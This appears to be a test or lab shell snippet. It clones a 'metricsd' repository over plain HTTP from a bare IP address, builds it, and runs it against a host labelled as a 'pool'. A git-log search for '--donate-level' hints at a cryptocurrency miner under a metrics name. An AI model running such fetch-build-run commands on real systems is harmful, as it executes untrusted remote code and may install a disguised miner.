# git clone over dumb http, make, run: polls a refused and then a live metrics port
#http 203.0.113.70:8088
#pool 203.0.113.71:9091:http
cd /tmp; git clone -q http://203.0.113.70:8088/metricsd.git; cd metricsd; git log --oneline --grep=--donate-level; make -s; ./metricsd 203.0.113.71 9090 6 300; make -s run
